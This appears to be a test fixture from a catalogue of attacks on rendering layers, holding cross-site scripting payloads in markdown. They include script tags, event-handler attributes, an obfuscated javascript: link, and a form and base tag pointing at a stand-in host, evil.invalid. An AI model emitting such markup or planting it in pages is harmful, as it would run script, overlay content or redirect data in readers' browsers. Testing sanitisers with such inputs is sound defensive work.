# /// attack
# catalogue = "showing: script in markdown"
# layers = ["display"]
# aim = "markup"
# ///
# Writes markup into prose that would run in the browser of whoever reads it.

# %% markdown
# <script>alert(1)</script> <img src=x onerror=alert(2)> [link](javascript:alert(3))
# <svg onload=alert(4)><script>alert(5)</script></svg> <iframe srcdoc="<script>1</script>"></iframe>
# <a href=" jav&#x0A;ascript:alert(6)">a</a> <form action="//evil.invalid"><input></form>
# <div style="position:fixed;top:0">over</div> <base href="//evil.invalid/">
